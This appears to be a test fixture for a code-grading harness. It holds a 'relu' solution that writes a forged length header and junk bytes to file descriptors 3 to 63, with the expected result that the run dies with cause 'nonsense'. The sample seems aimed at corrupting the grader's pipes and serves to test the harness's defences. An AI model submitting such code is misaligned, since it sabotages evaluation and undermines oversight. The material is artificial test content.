# expect: scale=2 relu=0 counter=2
# status: died
# cause: nonsense
# %% solution relu
import os, struct
def relu(x):
    for fd in range(3, 64):
        try: os.write(fd, struct.pack("<I", 0xFFFFFFF0) + b"A" * 1000)
        except OSError: pass
    return x
